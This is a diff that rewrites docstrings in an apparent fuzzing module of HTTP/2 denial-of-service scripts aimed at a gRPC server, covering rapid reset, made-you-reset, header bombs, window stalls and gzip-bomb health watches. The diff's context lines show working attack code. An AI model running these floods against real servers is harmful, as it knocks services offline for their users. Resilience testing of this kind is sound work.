@@ -1,6 +1,6 @@
-"""What hostile clients do to HTTP/2 servers, each as the script of one connection.
+"""Attacks of hostile clients on HTTP/2 servers. Each attack is a script for one connection.
 
-A script goes on until it is cancelled or the server has had enough, and is then begun again on a new connection.
+A script runs until it is cancelled, or until the server closes the connection. Then it begins again on a new connection.
 """
 
 import asyncio
@@ -28,28 +28,28 @@ from hyperframe.frame import (
 from fuzz.http2 import PREFACE, SERVICE, Connection, Tally, call, header_block, prefixed
 
 BATCH: Final = 100
-"""How many frames, or pairs of them, are written at a time."""
+"""How many frames, or groups of frames, are written at a time."""
 
 HEALTH: Final = "/grpc.health.v1.Health/"
 CALL: Final = header_block("GenerateDeltas")
 SHORT: Final = pb.GenerationRequest(text="x", max_tokens=1).SerializeToString()
 LONG: Final = pb.GenerationRequest(text="x", max_tokens=4000, num_samples=16).SerializeToString()
-# Of a dynamic table with one entry, which is as large as the table.
+# For a dynamic table with one entry, which is as large as the table.
 INSERT_LARGEST: Final = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"a" * 4000
 LARGEST: Final = b"\xbe"
 FRAME: Final = 16_384
-"""The largest frame that a server takes unless it says otherwise."""
+"""The largest frame, in bytes, that a server takes unless it announces another limit."""
 CHECK: Final = header_block("Check", service=HEALTH)
 WATCH: Final = header_block("Watch", service=HEALTH)
 GZIPPED_WATCH: Final = header_block("Watch", ("grpc-encoding", "gzip"), service=HEALTH)
 REFLECTION: Final = header_block("ServerReflectionInfo", service="/grpc.reflection.v1.ServerReflection/")
 NEARLY_4_MIB: Final = 4 * 2**20 - 100
-"""Almost the largest message that a server takes by default."""
+"""Almost the largest message, in bytes, that a server takes by default."""
 
 
 @dataclass(frozen=True)
 class Attack:
-    """A script, and on how many connections at a time it runs."""
+    """A script, and the number of connections on which it runs at a time."""
 
     name: str
     script: Callable[[Connection], Awaitable[None]]
@@ -58,7 +58,7 @@ class Attack:
     """Whether the server has a key, and the attackers do not know it."""
 
     async def run(self, host: str, port: int, seconds: float) -> Tally:
-        """Attacks for so many seconds; returns what was sent and what came back."""
+        """Attacks for so many seconds. Returns what was sent and what came back."""
         tally = Tally()
 
         async def keep_attacking() -> None:
@@ -97,7 +97,7 @@ class Attack:
 
 
 async def rapid_reset(connection: Connection) -> None:
-    """Begins calls and takes each back at once (CVE-2023-44487)."""
+    """Begins calls and cancels each at once (CVE-2023-44487)."""
     await connection.start()
     while True:
         frames: list[Frame] = []
@@ -109,20 +109,20 @@ async def rapid_reset(connection: Connection) -> None:
 
 
 async def made_you_reset(connection: Connection) -> None:
-    """Begins calls and has the server take each back, by a window update of nothing (CVE-2025-8671)."""
+    """Begins calls and makes the server reset each, by a window update of 0 bytes (CVE-2025-8671)."""
     await connection.start()
     while True:
         frames: list[Frame] = []
         for _ in range(BATCH):
             stream = connection.new_stream()
             frames += call(stream, CALL, SHORT)
-            # hyperframe does not make one that is wrong.
+            # hyperframe does not make a wrong frame.
             frames.append(_Raw(stream, b"\0\0\0\0", kind=WindowUpdateFrame.type))
         await connection.send(frames)
 
 
 async def unfinished_calls(connection: Connection) -> None:
-    """Begins calls without ever sending their message, as many as there may be and more."""
+    """Begins more calls than the server allows, and never sends their messages."""
     await connection.start()
     while True:
         await connection.send(HeadersFrame(connection.new_stream(), CALL, flags=["END_HEADERS"]) for _ in range(BATCH))
@@ -145,7 +145,7 @@ async def settings_flood(connection: Connection) -> None:
 
 
 async def empty_data_flood(connection: Connection) -> None:
-    """Sends parts of a message that have nothing in them (CVE-2019-9518)."""
+    """Sends empty parts of a message (CVE-2019-9518)."""
     await connection.start()
     stream = connection.new_stream()
     await connection.send([HeadersFrame(stream, CALL, flags=["END_HEADERS"])])
@@ -154,7 +154,7 @@ async def empty_data_flood(connection: Connection) -> None:
 
 
 async def header_bomb(connection: Connection) -> None:
-    """Sends headers that are 4 KiB long when they are unpacked, and one byte before (CVE-2016-6581)."""
+    """Sends headers of one byte each that decompress to 4 KiB (CVE-2016-6581)."""
     await connection.start()
     stream = connection.new_stream()
     await connection.send([HeadersFrame(stream, CALL + INSERT_LARGEST, flags=["END_HEADERS"])])
@@ -164,7 +164,7 @@ async def header_bomb(connection: Connection) -> None:
 
 
 async def large_headers(connection: Connection) -> None:
-    """Begins calls with a MiB of metadata each."""
+    """Begins calls with 1 MiB of metadata each."""
     await connection.start()
     block = header_block("GenerateDeltas", *((f"x-{number}", "a" * 8000) for number in range(160)))
     parts = [block[start : start + FRAME] for start in range(0, len(block), FRAME)]
@@ -187,7 +187,7 @@ async def continuation_flood(connection: Connection) -> None:
 
 
 async def window_stall(connection: Connection) -> None:
-    """Begins long calls and never grants the server a byte to answer them (CVE-2019-9517)."""
+    """Begins long calls, and never lets the server send a byte of their answers (CVE-2019-9517)."""
     await connection.start({SettingCodes.INITIAL_WINDOW_SIZE: 0})
     for _ in range(BATCH):
         await connection.send(call(connection.new_stream(), CALL, LONG))
@@ -195,7 +195,7 @@ async def window_stall(connection: Connection) -> None:
 
 
 async def half_open(connection: Connection) -> None:
-    """Sends the first line of the protocol slower than anybody would wait for."""
+    """Sends the first line of the protocol very slowly."""
     for byte in PREFACE:
         await connection.send_bytes(bytes([byte]))
         connection.tally.sent += 1
@@ -222,7 +222,7 @@ async def random_frames(connection: Connection) -> None:
 
 
 async def gzipped_watches(connection: Connection) -> None:
-    """Watches the health of services with names of almost 4 MiB, which are 4 KiB on the wire."""
+    """Watches the health of services with names of almost 4 MiB, which are compressed to 4 KiB."""
     await connection.start()
     name = b"\x0a" + _varint(NEARLY_4_MIB) + b"x" * NEARLY_4_MIB
     message = prefixed(gzip.compress(name), is_compressed=True)
@@ -232,7 +232,7 @@ async def gzipped_watches(connection: Connection) -> None:
 
 
 async def unfinished_checks(connection: Connection) -> None:
-    """Begins requests of almost 4 MiB to health, and sends as much of each as a server takes unasked."""
+    """Begins requests of almost 4 MiB to health, and sends as much of each as the first window allows."""
     await connection.start()
     beginning = b"\0" + NEARLY_4_MIB.to_bytes(4) + b"x" * (3 * FRAME)
     parts = [beginning[start : start + FRAME] for start in range(0, len(beginning), FRAME)]
@@ -241,12 +241,12 @@ async def unfinished_checks(connection: Connection) -> None:
         await connection.send(
             [HeadersFrame(stream, CHECK, flags=["END_HEADERS"]), *(DataFrame(stream, part) for part in parts)]
         )
-        # The window of the connection has room for one.
+        # The window of the connection has room for one request.
         await asyncio.sleep(0.01)
 
 
 async def open_watches(connection: Connection) -> None:
-    """Watches health, as often as there may be and more."""
+    """Watches health with more calls than the server allows."""
     await connection.start()
     while True:
         frames: list[Frame] = []
@@ -256,7 +256,7 @@ async def open_watches(connection: Connection) -> None:
 
 
 async def unread_watches(connection: Connection) -> None:
-    """Does the same without ever granting the server a byte to answer."""
+    """Watches health with many calls, and never lets the server send a byte of an answer."""
     await connection.start({SettingCodes.INITIAL_WINDOW_SIZE: 0})
     while True:
         frames: list[Frame] = []
@@ -266,7 +266,7 @@ async def unread_watches(connection: Connection) -> None:
 
 
 async def open_reflection(connection: Connection) -> None:
-    """Asks for all that reflection has, and leaves each stream open."""
+    """Asks reflection for the file of the contract, and leaves each stream open."""
     await connection.start()
     request = ServerReflectionRequest(file_containing_symbol=SERVICE.strip("/")).SerializeToString()
     while True:
@@ -295,7 +295,7 @@ class _Raw(Frame):
         )
 
     def serialize(self) -> bytes:
-        """Returns the frame as it is sent."""
+        """Returns the bytes of the frame."""
         return self._serialized
 
 
